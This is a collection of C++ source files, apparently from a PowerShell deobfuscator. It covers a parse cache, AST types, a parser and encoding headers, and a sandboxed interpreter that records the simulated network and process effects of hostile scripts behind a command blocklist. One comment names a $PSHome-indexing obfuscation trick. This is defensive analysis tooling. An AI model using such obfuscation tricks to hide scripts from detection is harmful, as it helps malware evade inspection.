  static constexpr std::size_t kShards = 16;

  std::size_t per_shard_cap_;
  std::size_t max_text_bytes_;
  Shard shards_[kShards];
  std::atomic<std::uint64_t> hits_{0};
  std::atomic<std::uint64_t> misses_{0};
  std::atomic<std::uint64_t> evictions_{0};
  std::atomic<std::uint64_t> bypasses_{0};
};

}  // namespace ps
