#include "psast/ast.h"

#include "pslang/alias_table.h"

namespace ps {

std::string_view to_string(NodeKind kind) {
  switch (kind) {
    case NodeKind::ScriptBlock: return "ScriptBlockAst";
    case NodeKind::ParamBlock: return "ParamBlockAst";
    case NodeKind::Parameter: return "ParameterAst";
    case NodeKind::NamedBlock: return "NamedBlockAst";
    case NodeKind::StatementBlock: return "StatementBlockAst";
    case NodeKind::Pipeline: return "PipelineAst";
    case NodeKind::Command: return "CommandAst";
    case NodeKind::CommandExpression: return "CommandExpressionAst";
    case NodeKind::CommandParameter: return "CommandParameterAst";
    case NodeKind::AssignmentStatement: return "AssignmentStatementAst";
    case NodeKind::IfStatement: return "IfStatementAst";
    case NodeKind::WhileStatement: return "WhileStatementAst";
    case NodeKind::DoWhileStatement: return "DoWhileStatementAst";
    case NodeKind::ForStatement: return "ForStatementAst";
    case NodeKind::ForEachStatement: return "ForEachStatementAst";
    case NodeKind::SwitchStatement: return "SwitchStatementAst";
    case NodeKind::FunctionDefinition: return "FunctionDefinitionAst";
    case NodeKind::TryStatement: return "TryStatementAst";
    case NodeKind::ReturnStatement: return "ReturnStatementAst";
    case NodeKind::BreakStatement: return "BreakStatementAst";
    case NodeKind::ContinueStatement: return "ContinueStatementAst";
    case NodeKind::ThrowStatement: return "ThrowStatementAst";
    case NodeKind::BinaryExpression: return "BinaryExpressionAst";
    case NodeKind::UnaryExpression: return "UnaryExpressionAst";
    case NodeKind::ConvertExpression: return "ConvertExpressionAst";
    case NodeKind::TypeExpression: return "TypeExpressionAst";
    case NodeKind::ConstantExpression: return "ConstantExpressionAst";
    case NodeKind::StringConstantExpression: return "StringConstantExpressionAst";
    case NodeKind::ExpandableStringExpression: return "ExpandableStringExpressionAst";
    case NodeKind::VariableExpression: return "VariableExpressionAst";
    case NodeKind::MemberExpression: return "MemberExpressionAst";
    case NodeKind::InvokeMemberExpression: return "InvokeMemberExpressionAst";
    case NodeKind::IndexExpression: return "IndexExpressionAst";
    case NodeKind::ArrayLiteral: return "ArrayLiteralAst";
    case NodeKind::ArrayExpression: return "ArrayExpressionAst";
    case NodeKind::HashtableExpression: return "HashtableExpressionAst";
    case NodeKind::ParenExpression: return "ParenExpressionAst";
    case NodeKind::SubExpression: return "SubExpressionAst";
    case NodeKind::ScriptBlockExpression: return "ScriptBlockExpressionAst";
  }
  return "?";
}

void Ast::post_order(const std::function<void(const Ast&)>& fn) const {
  for (const Ast* child : children()) child->post_order(fn);
  fn(*this);
}

std::string CommandAst::constant_name() const {
  if (elements.empty()) return "";
  const Ast* first = elements.front().get();
  if (first->kind() == NodeKind::StringConstantExpression) {
    return static_cast<const StringConstantExpressionAst*>(first)->value;
  }
  return "";
}

std::string VariableExpressionAst::bare_name() const {
  auto pos = name.find(':');
  if (pos != std::string::npos) return to_lower(name.substr(pos + 1));
  return to_lower(name);
}

std::string VariableExpressionAst::scope_qualifier() const {
  auto pos = name.find(':');
  if (pos == std::string::npos) return "";
  return to_lower(name.substr(0, pos));
}

std::string MemberExpressionAst::constant_member() const {
  if (member == nullptr) return "";
  if (member->kind() == NodeKind::StringConstantExpression) {
    return to_lower(
        static_cast<const StringConstantExpressionAst*>(member.get())->value);
  }
  return "";
}

bool is_recoverable_kind(NodeKind kind) {
  switch (kind) {
    case NodeKind::Pipeline:
    case NodeKind::UnaryExpression:
    case NodeKind::BinaryExpression:
    case NodeKind::ConvertExpression:
    case NodeKind::InvokeMemberExpression:
    case NodeKind::SubExpression:
      return true;
    default:
      return false;
  }
}

bool is_scope_kind(NodeKind kind) {
  switch (kind) {
    case NodeKind::NamedBlock:
    case NodeKind::IfStatement:
    case NodeKind::WhileStatement:
    case NodeKind::DoWhileStatement:
    case NodeKind::ForStatement:
    case NodeKind::ForEachStatement:
    case NodeKind::StatementBlock:
      return true;
    default:
      return false;
  }
}

namespace {
void link_parents_impl(Ast& node) {
  for (const Ast* child : node.children()) {
    auto* mutable_child = const_cast<Ast*>(child);
    mutable_child->set_parent(&node);
    link_parents_impl(*mutable_child);
  }
}
}  // namespace

void link_parents(Ast& root) {
  root.set_parent(nullptr);
  link_parents_impl(root);
}

}  // namespace ps
