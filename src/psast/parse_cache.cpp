#include "psast/parse_cache.h"

#include <algorithm>

#include "pslang/lexer.h"
#include "psast/parser.h"
#include "telemetry/metrics.h"

namespace ps {

namespace {

// Registry mirrors of the cache's own atomics, so `--metrics` output and
// bench hit-rate keys come from one place. Lookups are counted separately
// (rather than derived) so the exposition can assert hits+misses+bypasses
// == lookups as a reconciliation check.
ideobf::telemetry::Counter& cache_lookup_counter() {
  static auto& c = ideobf::telemetry::registry().counter(
      "ideobf_parse_cache_lookup_total");
  return c;
}
ideobf::telemetry::Counter& cache_hit_counter() {
  static auto& c =
      ideobf::telemetry::registry().counter("ideobf_parse_cache_hit_total");
  return c;
}
ideobf::telemetry::Counter& cache_miss_counter() {
  static auto& c =
      ideobf::telemetry::registry().counter("ideobf_parse_cache_miss_total");
  return c;
}
ideobf::telemetry::Counter& cache_eviction_counter() {
  static auto& c = ideobf::telemetry::registry().counter(
      "ideobf_parse_cache_eviction_total");
  return c;
}
ideobf::telemetry::Counter& cache_bypass_counter() {
  static auto& c =
      ideobf::telemetry::registry().counter("ideobf_parse_cache_bypass_total");
  return c;
}

}  // namespace

ParseCache::ParseCache(std::size_t max_entries, std::size_t max_text_bytes)
    : per_shard_cap_(std::max<std::size_t>(1, max_entries / kShards)),
      max_text_bytes_(max_text_bytes) {}

ParseCache::Result ParseCache::get(std::string_view text) {
  const std::size_t hash = StringHash{}(text);
  Shard& shard = shards_[hash % kShards];
  cache_lookup_counter().add();

  if (text.size() <= max_text_bytes_) {
    std::lock_guard lock(shard.mu);
    if (auto it = shard.map.find(text); it != shard.map.end()) {
      shard.lru.splice(shard.lru.begin(), shard.lru, it->second.lru_it);
      hits_.fetch_add(1, std::memory_order_relaxed);
      cache_hit_counter().add();
      return it->second.result;
    }
  }

  // Parse outside the shard lock: a slow parse must not serialize the
  // shard. The pinned source copy lives in the same arena as the tree, so
  // the whole entry is one allocation domain with one refcount.
  Result fresh;
  auto arena = std::make_shared<Arena>();
  const std::string* pinned = arena->make<std::string>(text);
  const ScriptBlockAst* root = nullptr;
  try {
    root = parse_into(*arena, *pinned);
  } catch (const ParseError&) {
  } catch (const LexError&) {
  }
  fresh.source = std::shared_ptr<const std::string>(arena, pinned);
  fresh.ast = ParsedScript(std::move(arena), root);
  fresh.valid = root != nullptr;

  if (text.size() > max_text_bytes_) {
    bypasses_.fetch_add(1, std::memory_order_relaxed);
    cache_bypass_counter().add();
    return fresh;
  }
  misses_.fetch_add(1, std::memory_order_relaxed);
  cache_miss_counter().add();

  std::lock_guard lock(shard.mu);
  auto [it, inserted] = shard.map.try_emplace(std::string(text));
  if (!inserted) {
    // Another thread cached this text while we were parsing; keep theirs so
    // all holders share one AST.
    shard.lru.splice(shard.lru.begin(), shard.lru, it->second.lru_it);
    return it->second.result;
  }
  shard.lru.push_front(&it->first);
  it->second = Entry{std::move(fresh), shard.lru.begin()};
  Result out = it->second.result;
  if (shard.map.size() > per_shard_cap_) {
    const std::string* victim = shard.lru.back();
    shard.lru.pop_back();
    shard.map.erase(*victim);
    evictions_.fetch_add(1, std::memory_order_relaxed);
    cache_eviction_counter().add();
  }
  return out;
}

ParseCacheStats ParseCache::stats() const {
  ParseCacheStats s;
  s.hits = hits_.load(std::memory_order_relaxed);
  s.misses = misses_.load(std::memory_order_relaxed);
  s.evictions = evictions_.load(std::memory_order_relaxed);
  s.bypasses = bypasses_.load(std::memory_order_relaxed);
  return s;
}

std::size_t ParseCache::size() const {
  std::size_t n = 0;
  for (const Shard& shard : shards_) {
    std::lock_guard lock(const_cast<Shard&>(shard).mu);
    n += shard.map.size();
  }
  return n;
}

void ParseCache::clear() {
  for (Shard& shard : shards_) {
    std::lock_guard lock(shard.mu);
    shard.map.clear();
    shard.lru.clear();
  }
}

}  // namespace ps
