#pragma once

/// \file parser.h
/// Recursive-descent parser producing the PowerShell AST of ast.h, the
/// substitute for System.Management.Automation.Language.Parser.

#include <cstdint>
#include <memory>
#include <stdexcept>
#include <string>
#include <string_view>

#include "psast/ast.h"

namespace ps {

class ParseError : public std::runtime_error {
 public:
  ParseError(std::string message, std::size_t offset)
      : std::runtime_error(std::move(message)), offset(offset) {}
  std::size_t offset;
};

/// Parses `source` into a script-level ScriptBlockAst owned by a fresh
/// Arena; the returned ParsedScript carries both. Throws ParseError or
/// LexError on malformed input. Parent links are already set on the result.
ParsedScript parse(std::string_view source);

/// Non-throwing variant: returns an empty ParsedScript (== nullptr) on
/// failure, storing a message into `error` when provided. This is the
/// deobfuscator's per-step syntax check.
ParsedScript try_parse(std::string_view source, std::string* error = nullptr);

/// Low-level entry: parses into a caller-supplied arena and returns the raw
/// root. The tree lives exactly as long as `arena`. Throws on malformed
/// input (the partially-built nodes stay in the arena and are finalized
/// with it). ParseCache uses this to co-locate the pinned source text and
/// the tree in one arena.
const ScriptBlockAst* parse_into(Arena& arena, std::string_view source);

/// True when `source` parses cleanly.
bool is_valid_syntax(std::string_view source);

/// Instrumentation: process-wide count of full parses performed through
/// parse()/try_parse()/is_valid_syntax(), including the interpreter's
/// internal parses. The pipeline benchmark takes deltas of this counter to
/// measure parses-per-deobfuscation with and without the parse cache.
std::uint64_t parse_call_count();

}  // namespace ps
