#pragma once

/// \file encodings.h
/// Byte/string codecs backing [System.Convert] and [System.Text.Encoding]:
/// Base64, hex, and the ASCII / UTF-8 / UTF-16LE ("Unicode") encodings that
/// the paper's L3 obfuscation techniques rely on.

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace ps {

using ByteVec = std::vector<std::uint8_t>;

/// [Convert]::ToBase64String.
std::string base64_encode(const ByteVec& data);

/// [Convert]::FromBase64String. Whitespace is skipped, as .NET does.
/// Returns nullopt on invalid input.
std::optional<ByteVec> base64_decode(std::string_view text);

/// True if `text` is plausible Base64 (valid alphabet, correct padding).
bool looks_like_base64(std::string_view text);

/// [Convert]::ToInt32(s, base) for base 2/8/10/16. Returns nullopt on
/// malformed digits.
std::optional<std::int64_t> convert_to_int(std::string_view s, int base);

/// [Convert]::ToString(value, base).
std::string convert_to_string_base(std::int64_t value, int base);

/// The named encodings exposed via [Text.Encoding]::X.
enum class TextEncoding { Ascii, Utf8, Unicode /* UTF-16LE */, BigEndianUnicode };

/// Encoding.GetString: bytes -> UTF-8 std::string (our in-memory text form).
std::string encoding_get_string(TextEncoding enc, const ByteVec& bytes);

/// Encoding.GetBytes: UTF-8 std::string -> bytes in the given encoding.
ByteVec encoding_get_bytes(TextEncoding enc, std::string_view text);

/// Decodes one UTF-8 code point starting at `i`; advances `i`. Invalid bytes
/// decode as themselves (latin-1 fallback) so malformed input never throws.
std::uint32_t utf8_next(std::string_view s, std::size_t& i);

/// Number of code points in a UTF-8 string.
std::size_t utf8_length(std::string_view s);

/// Splits a UTF-8 string into code points.
std::vector<std::uint32_t> utf8_codepoints(std::string_view s);

}  // namespace ps
