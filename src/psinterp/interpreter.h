#pragma once

/// \file interpreter.h
/// A sandboxed mini PowerShell interpreter: the substitute for
/// `ScriptBlock.Invoke()` that the paper's recovery phase executes
/// recoverable script pieces with, and — in permissive mode — the engine
/// behind the behavior-recording sandbox (Table IV).

#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "psast/ast.h"
#include "psinterp/encodings.h"
#include "psvalue/budget.h"
#include "psvalue/value.h"

namespace ps {

class ParseCache;

/// Raised for any runtime evaluation failure (unknown variable in strict
/// mode, bad member, conversion failure, thrown script errors, ...).
class EvalError : public std::runtime_error {
 public:
  explicit EvalError(std::string message) : std::runtime_error(std::move(message)) {}
};

/// Raised when execution exceeds the configured step/recursion/size limits.
/// Deliberately not an EvalError so script-level try/catch cannot swallow it.
/// Carries the limit's FailureKind (StepLimit, DepthLimit, or MemoryBudget)
/// for the governor's failure taxonomy.
class LimitError : public std::runtime_error {
 public:
  explicit LimitError(std::string message,
                      FailureKind kind = FailureKind::StepLimit)
      : std::runtime_error(std::move(message)), kind(kind) {}
  FailureKind kind;
};

/// Raised when a command on the execution blocklist is invoked and
/// `refuse_blocklisted` is set — the deobfuscator then keeps the piece.
class BlockedCommandError : public std::runtime_error {
 public:
  explicit BlockedCommandError(std::string command)
      : std::runtime_error("blocked command: " + command),
        command(std::move(command)) {}
  std::string command;
};

/// Receives the simulated side effects of script execution. The sandbox
/// module derives from this to implement the TianQiong-sandbox substitute.
class EffectRecorder {
 public:
  virtual ~EffectRecorder() = default;
  /// kind: "dns" | "tcp" | "http"; detail: hostname / host:port / URL.
  virtual void on_network(std::string_view kind, std::string_view detail) = 0;
  virtual void on_process(std::string_view command_line) = 0;
  virtual void on_file(std::string_view op, std::string_view path) = 0;
  virtual void on_sleep(double seconds) = 0;
  virtual void on_host_output(std::string_view text) = 0;
  /// Content returned by simulated downloads (empty = benign default).
  virtual std::string download_content(std::string_view url) = 0;
  /// Called with every script buffer supplied to the scripting engine
  /// (top-level scripts, Invoke-Expression payloads, -EncodedCommand
  /// bodies) — the AMSI observation point (paper section V-B).
  virtual void on_engine_script(std::string_view script) { (void)script; }
};

struct InterpreterOptions {
  /// Hard cap on AST evaluation steps (loops included).
  std::size_t max_steps = 500000;
  /// Maximum nested invoke depth (Invoke-Expression layers, function calls).
  std::size_t max_depth = 64;
  /// Maximum size of any single produced string.
  std::size_t max_string = 16u << 20;
  /// Strict mode throws EvalError on unknown variables — the recovery engine
  /// uses this so pieces with untraced variables are kept, per Algorithm 1.
  bool strict_variables = false;
  /// When the command filter rejects a command, throw BlockedCommandError
  /// instead of recording-and-continuing.
  bool refuse_blocklisted = false;
  /// Returns false for commands that must not execute (the blocklist).
  std::function<bool(const std::string&)> command_filter;
  /// Side-effect sink; may be null (effects silently dropped).
  EffectRecorder* recorder = nullptr;
  /// Optional shared parse cache (parse-once pipeline): `evaluate_script`
  /// and internal script-block / function-body invocations reuse cached
  /// parses of identical text instead of re-parsing. Purely a performance
  /// knob — results and thrown errors are unchanged. Non-owning; the cache
  /// must outlive the interpreter. May be null.
  ParseCache* parse_cache = nullptr;
  /// Optional execution budget (wall-clock deadline, cumulative allocation
  /// accounting, cancellation). Checkpointed from `charge_step()` and
  /// charged at the string/array materialization sites, so a hostile script
  /// cannot stall or bloat past its envelope by more than one stride.
  /// Non-owning; must outlive the interpreter. May be null.
  Budget* budget = nullptr;
};

/// A parsed function definition (body is reparsed per call for lifetime
/// independence from the defining script's AST).
struct FunctionInfo {
  std::vector<std::string> parameter_names;
  std::string body_text;
};

class Interpreter {
 public:
  explicit Interpreter(InterpreterOptions opts = {});
  ~Interpreter();

  /// Parses and runs `script`, returning the aggregated pipeline output.
  /// Throws ParseError / EvalError / LimitError / BlockedCommandError.
  Value evaluate_script(std::string_view script);

  /// Evaluates a single already-parsed node against `source`.
  Value evaluate(const Ast& node, std::string_view source);

  /// Pre-seeds a variable (used by the deobfuscator's variable tracing).
  void set_variable(std::string_view name, Value value);

  /// Reads a variable (environment and automatic variables included).
  std::optional<Value> get_variable(std::string_view name) const;

  const InterpreterOptions& options() const { return opts_; }

  // ---- implementation surface shared with the cmdlet/member tables ----

  struct CommandCall {
    std::string name;                      ///< resolved lowercase cmdlet name
    std::vector<Value> args;               ///< positional arguments
    std::map<std::string, Value> params;   ///< named parameters (lowercased, no dash)
    std::vector<std::string> param_order;  ///< parameter names in call order
    std::vector<Value> input;              ///< pipeline input
    std::vector<const Ast*> raw_args;      ///< arg ASTs (for scriptblock args)
    std::string_view source;
    std::string raw_text;                  ///< full command text
  };

  /// Runs one command invocation, appending outputs to `out`.
  void run_command(CommandCall& call, std::vector<Value>& out);

  /// Invokes a ScriptBlock value with the given pipeline input ($_ bound per
  /// item when `per_item`), appending outputs.
  void invoke_scriptblock(const ScriptBlock& sb, const std::vector<Value>& input,
                          bool per_item, std::vector<Value>& out);

  /// Invokes a ScriptBlock once with explicit arguments bound to $args.
  Value invoke_scriptblock_value(const ScriptBlock& sb);

  void charge_step();
  /// Budget accounting for value materialization: charges `bytes` against
  /// the attached allocation budget (no-op without one) and enforces the
  /// single-value `max_string` cap when `enforce_max_string` is set.
  void charge_bytes(std::size_t bytes, bool enforce_max_string = false);
  EffectRecorder* recorder() const { return opts_.recorder; }
  void check_blocked(const std::string& command_lower);

  /// Converts a value to the numeric int it must be, or throws EvalError.
  static std::int64_t need_int(const Value& v, std::string_view what);
  static std::string need_string(const Value& v);

  // ---- value-level operator cores (the per-piece bytecode VM surface) ----
  //
  // Each wrapper exposes one already-evaluated-operand core of the tree
  // walker so a compiled piece goes through the exact same operator /
  // limit / error code paths as the AST it was compiled from. None of
  // them evaluate child expressions; step charging is identical to the
  // tree-walk site each one was extracted from (`binary_values` charges
  // one step internally, the rest charge nothing).

  /// `lhs <op> rhs` for every non-short-circuit binary operator.
  Value binary_values(const Value& lhs, const std::string& op, const Value& rhs);
  /// Value-only unary operators (`-`, `+`, `!`, `-not`, `-bnot`, `-join`,
  /// `-split`, `,`). The stateful `++`/`--` family is not included.
  Value unary_value(const std::string& op, const Value& v);
  /// `[type] v` cast; `type_name` must already be lowercased.
  Value convert_value(const std::string& type_name, const Value& v);
  /// `target[index]` with hashtable / array-of-indices dispatch.
  Value index_values(const Value& target, const Value& index);
  /// Reads a variable by raw (possibly scope-qualified) name text, with the
  /// full automatic/env/strict semantics of a `$name` expression node.
  Value variable_value(const std::string& name);
  /// Expands a double-quoted string body (backtick escapes, `$name`,
  /// `$(...)` subexpressions).
  Value expand_value(const std::string& raw);
  /// Resets the step counter, as `evaluate_script` does at depth 0 — lets a
  /// pooled interpreter give each compiled piece a fresh step allowance.
  void reset_steps() { steps_ = 0; }

 private:
  friend class Evaluator;

  /// Parses through the configured parse cache when available; raises the
  /// genuine ParseError for invalid text either way. The returned handle
  /// shares the cache's arena on a hit (one refcount bump) and keeps the
  /// AST alive for the duration of the evaluation.
  ps::ParsedScript parse_shared(std::string_view text) const;

  InterpreterOptions opts_;
  std::size_t steps_ = 0;
  std::size_t depth_ = 0;

  struct Scope {
    std::map<std::string, Value> vars;
  };
  std::vector<Scope> scopes_;
  std::map<std::string, Value> globals_;
  std::map<std::string, std::string> env_;  ///< lowercase name -> value
  std::map<std::string, std::string> virtual_fs_;  ///< lowercase path -> content
  std::map<std::string, FunctionInfo> functions_;
  std::map<std::string, std::string> user_aliases_;

  void install_defaults();

  Value* find_variable(const std::string& lower_name);
  const Value* find_variable(const std::string& lower_name) const;
  void assign_variable(const std::string& name, Value v);

  // Statement / expression evaluation (definitions in interpreter.cpp).
  void exec_statement(const Ast& node, std::string_view src,
                      std::vector<Value>& out);
  void exec_statement_list(const std::vector<AstPtr>& stmts, std::string_view src,
                           std::vector<Value>& out);
  Value eval_expr(const Ast& node, std::string_view src);
  Value eval_pipeline(const PipelineAst& pipe, std::string_view src,
                      std::vector<Value>& out);
  void exec_command(const CommandAst& cmd, std::string_view src,
                    std::vector<Value> input, std::vector<Value>& out);
  Value eval_binary(const BinaryExpressionAst& bin, std::string_view src);
  Value eval_binary_values(const Value& lhs, const std::string& op, const Value& rhs);
  Value eval_unary(const UnaryExpressionAst& un, std::string_view src);
  Value eval_unary_value(const std::string& op, const Value& v);
  Value eval_index_values(const Value& target, const Value& index);
  Value eval_convert(const ConvertExpressionAst& conv, std::string_view src);
  Value eval_index(const IndexExpressionAst& idx, std::string_view src);
  Value eval_member(const MemberExpressionAst& mem, std::string_view src);
  Value eval_invoke_member(const InvokeMemberExpressionAst& inv,
                           std::string_view src);
  Value eval_variable(const VariableExpressionAst& var);
  Value expand_string(const std::string& raw, std::string_view src);
  Value cast_value(const std::string& type_name, const Value& v);

  // Control flow.
  struct BreakSignal {};
  struct ContinueSignal {};
  struct ReturnSignal {
    Value value;
  };

  void exec_if(const IfStatementAst& st, std::string_view src, std::vector<Value>& out);
  void exec_while(const WhileStatementAst& st, std::string_view src, std::vector<Value>& out);
  void exec_do(const DoWhileStatementAst& st, std::string_view src, std::vector<Value>& out);
  void exec_for(const ForStatementAst& st, std::string_view src, std::vector<Value>& out);
  void exec_foreach(const ForEachStatementAst& st, std::string_view src, std::vector<Value>& out);
  void exec_switch(const SwitchStatementAst& st, std::string_view src, std::vector<Value>& out);
  void exec_try(const TryStatementAst& st, std::string_view src, std::vector<Value>& out);
  void exec_assignment(const AssignmentStatementAst& st, std::string_view src,
                       std::vector<Value>& out);

  Value call_function(const FunctionInfo& fn, const std::vector<Value>& args);

  // Member dispatch (definitions in members.cpp).
  Value instance_member(const Value& target, const std::string& member_lower);
  Value instance_invoke(const Value& target, const std::string& member_lower,
                        const std::vector<Value>& args);
  Value static_member(const std::string& type_lower, const std::string& member_lower);
  Value static_invoke(const std::string& type_lower, const std::string& member_lower,
                      const std::vector<Value>& args);
  Value construct_object(const std::string& type_lower,
                         const std::vector<Value>& args);

  std::string simulated_download(const std::string& url);
  void record_network_for_url(const std::string& url);
};

/// The composite-format engine behind the `-f` operator ({0}, {1,8}, {0:X2}).
std::string format_operator(const std::string& fmt, const std::vector<Value>& args);

/// PowerShell `-like` wildcard matching (`*`, `?`, `[a-z]`), case-insensitive.
bool wildcard_match(std::string_view pattern, std::string_view text);

}  // namespace ps
