#include "psinterp/interpreter.h"

#include <algorithm>
#include <cmath>
#include <regex>

#include "pslang/alias_table.h"
#include "psast/parse_cache.h"
#include "psast/parser.h"
#include "psinterp/objects.h"

namespace ps {

namespace {

/// PowerShell values for the automatic variables obfuscators abuse
/// ($PSHome[4]+$PSHome[30]+'x' and friends).
constexpr std::string_view kPsHome = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0";
constexpr std::string_view kShellId = "Microsoft.PowerShell";

std::vector<Value> flatten_stream(const Value& v) {
  std::vector<Value> out;
  if (v.is_array()) {
    for (const Value& item : v.get_array()) out.push_back(item);
  } else if (!v.is_null()) {
    out.push_back(v);
  }
  return out;
}

}  // namespace

// ------------------------------------------------------------ construction

Interpreter::Interpreter(InterpreterOptions opts) : opts_(std::move(opts)) {
  scopes_.emplace_back();
  install_defaults();
}

Interpreter::~Interpreter() = default;

void Interpreter::install_defaults() {
  env_["comspec"] = "C:\\Windows\\system32\\cmd.exe";
  env_["windir"] = "C:\\Windows";
  env_["temp"] = "C:\\Users\\user\\AppData\\Local\\Temp";
  env_["tmp"] = env_["temp"];
  env_["username"] = "user";
  env_["computername"] = "DESKTOP-SIM";
  env_["public"] = "C:\\Users\\Public";
  env_["appdata"] = "C:\\Users\\user\\AppData\\Roaming";
  env_["localappdata"] = "C:\\Users\\user\\AppData\\Local";
  env_["programdata"] = "C:\\ProgramData";
  env_["userprofile"] = "C:\\Users\\user";
  env_["homepath"] = "\\Users\\user";
  env_["systemroot"] = "C:\\Windows";
  env_["processor_architecture"] = "AMD64";
  env_["psmodulepath"] =
      "C:\\Users\\user\\Documents\\WindowsPowerShell\\Modules";
}

// --------------------------------------------------------------- variables

void Interpreter::set_variable(std::string_view name, Value value) {
  assign_variable(to_lower(name), std::move(value));
}

std::optional<Value> Interpreter::get_variable(std::string_view name) const {
  const std::string lower = to_lower(name);
  if (const Value* v = find_variable(lower)) return *v;
  return std::nullopt;
}

Value* Interpreter::find_variable(const std::string& lower_name) {
  for (auto it = scopes_.rbegin(); it != scopes_.rend(); ++it) {
    auto found = it->vars.find(lower_name);
    if (found != it->vars.end()) return &found->second;
  }
  auto g = globals_.find(lower_name);
  if (g != globals_.end()) return &g->second;
  return nullptr;
}

const Value* Interpreter::find_variable(const std::string& lower_name) const {
  return const_cast<Interpreter*>(this)->find_variable(lower_name);
}

void Interpreter::assign_variable(const std::string& name, Value v) {
  std::string lower = to_lower(name);
  if (lower.rfind("global:", 0) == 0 || lower.rfind("script:", 0) == 0) {
    globals_[lower.substr(lower.find(':') + 1)] = std::move(v);
    return;
  }
  if (lower.rfind("env:", 0) == 0) {
    env_[lower.substr(4)] = v.to_display_string();
    return;
  }
  if (lower.rfind("local:", 0) == 0 || lower.rfind("private:", 0) == 0 ||
      lower.rfind("variable:", 0) == 0) {
    lower = lower.substr(lower.find(':') + 1);
  }
  // PowerShell writes create or update the variable in the *current* scope
  // (reads walk outward); a function assigning $x shadows the caller's $x.
  scopes_.back().vars[lower] = std::move(v);
}

Value Interpreter::eval_variable(const VariableExpressionAst& var) {
  const std::string scope = var.scope_qualifier();
  const std::string bare = var.bare_name();
  if (scope == "env") {
    auto it = env_.find(bare);
    if (it != env_.end()) return Value(it->second);
    if (opts_.strict_variables) throw EvalError("unknown env variable: " + bare);
    return Value(std::string());
  }
  if (scope == "global" || scope == "script") {
    auto it = globals_.find(bare);
    if (it != globals_.end()) return it->second;
    // fall through to normal lookup
  }
  if (bare == "true") return Value(true);
  if (bare == "false") return Value(false);
  if (bare == "null") return Value();
  if (bare == "pshome" || bare == "psscriptroot") return Value(std::string(kPsHome));
  if (bare == "shellid") return Value(std::string(kShellId));
  if (bare == "home") return Value(std::string("C:\\Users\\user"));
  if (bare == "pwd") return Value(std::string("C:\\Users\\user"));
  if (bare == "verbosepreference" || bare == "warningpreference" ||
      bare == "debugpreference") {
    if (find_variable(bare) == nullptr) return Value(std::string("SilentlyContinue"));
  }
  if (bare == "erroractionpreference") {
    if (find_variable(bare) == nullptr) return Value(std::string("Continue"));
  }
  if (bare == "executioncontext") {
    return Value(std::shared_ptr<PsObject>(std::make_shared<ExecutionContextObject>()));
  }
  if (bare == "psversiontable") {
    Hashtable ht;
    ht.entries.emplace_back(Value("PSVersion"), Value("5.1.19041"));
    return Value(std::move(ht));
  }
  if (const Value* v = find_variable(bare)) return *v;
  if (opts_.strict_variables) throw EvalError("unknown variable: $" + bare);
  return Value();
}

// ------------------------------------------------------------------ limits

void Interpreter::charge_step() {
  if (++steps_ > opts_.max_steps) {
    throw LimitError("step limit exceeded", FailureKind::StepLimit);
  }
  if (opts_.budget != nullptr) opts_.budget->checkpoint();
}

void Interpreter::charge_bytes(std::size_t bytes, bool enforce_max_string) {
  if (enforce_max_string && bytes > opts_.max_string) {
    throw LimitError("string too large", FailureKind::MemoryBudget);
  }
  if (opts_.budget != nullptr) opts_.budget->charge_bytes(bytes);
}

void Interpreter::check_blocked(const std::string& command_lower) {
  if (opts_.command_filter && !opts_.command_filter(command_lower)) {
    if (opts_.refuse_blocklisted) throw BlockedCommandError(command_lower);
  }
}

std::int64_t Interpreter::need_int(const Value& v, std::string_view what) {
  std::int64_t out = 0;
  if (!v.try_to_int(out)) {
    throw EvalError("cannot convert " + v.type_name() + " to int for " +
                    std::string(what));
  }
  return out;
}

std::string Interpreter::need_string(const Value& v) { return v.to_display_string(); }

// ------------------------------------------------------------- entry points

ps::ParsedScript Interpreter::parse_shared(std::string_view text) const {
  if (opts_.parse_cache != nullptr) {
    ps::ParseCache::Result r = opts_.parse_cache->get(text);
    if (r.ast != nullptr) return std::move(r.ast);
    // Negative-cached text falls through so the genuine ParseError (with
    // its real message) is raised, exactly as without a cache.
  }
  return parse(text);
}

Value Interpreter::evaluate_script(std::string_view script) {
  if (depth_ >= opts_.max_depth) throw LimitError("invoke depth exceeded", FailureKind::DepthLimit);
  // The step budget applies per top-level evaluation; a reused interpreter
  // must not accumulate steps across independent scripts.
  if (depth_ == 0) steps_ = 0;
  if (opts_.recorder != nullptr) opts_.recorder->on_engine_script(script);
  const ParsedScript root = parse_shared(script);
  ++depth_;
  std::vector<Value> out;
  try {
    for (const auto& block : root->named_blocks) {
      exec_statement_list(block->statements, script, out);
    }
  } catch (const ReturnSignal& r) {
    if (!r.value.is_null()) out.push_back(r.value);
  } catch (...) {
    --depth_;
    throw;
  }
  --depth_;
  return Value::from_stream(std::move(out));
}

Value Interpreter::evaluate(const Ast& node, std::string_view source) {
  std::vector<Value> out;
  exec_statement(node, source, out);
  return Value::from_stream(std::move(out));
}

// -------------------------------------------------------------- statements

void Interpreter::exec_statement_list(const std::vector<AstPtr>& stmts,
                                      std::string_view src,
                                      std::vector<Value>& out) {
  for (const auto& st : stmts) exec_statement(*st, src, out);
}

void Interpreter::exec_statement(const Ast& node, std::string_view src,
                                 std::vector<Value>& out) {
  charge_step();
  switch (node.kind()) {
    case NodeKind::Pipeline:
      eval_pipeline(static_cast<const PipelineAst&>(node), src, out);
      return;
    case NodeKind::AssignmentStatement:
      exec_assignment(static_cast<const AssignmentStatementAst&>(node), src, out);
      return;
    case NodeKind::IfStatement:
      exec_if(static_cast<const IfStatementAst&>(node), src, out);
      return;
    case NodeKind::WhileStatement:
      exec_while(static_cast<const WhileStatementAst&>(node), src, out);
      return;
    case NodeKind::DoWhileStatement:
      exec_do(static_cast<const DoWhileStatementAst&>(node), src, out);
      return;
    case NodeKind::ForStatement:
      exec_for(static_cast<const ForStatementAst&>(node), src, out);
      return;
    case NodeKind::ForEachStatement:
      exec_foreach(static_cast<const ForEachStatementAst&>(node), src, out);
      return;
    case NodeKind::SwitchStatement:
      exec_switch(static_cast<const SwitchStatementAst&>(node), src, out);
      return;
    case NodeKind::TryStatement:
      exec_try(static_cast<const TryStatementAst&>(node), src, out);
      return;
    case NodeKind::FunctionDefinition: {
      const auto& fn = static_cast<const FunctionDefinitionAst&>(node);
      FunctionInfo info;
      for (const auto& p : fn.parameters) info.parameter_names.push_back(to_lower(p->name));
      const auto* body = static_cast<const ScriptBlockAst*>(fn.body.get());
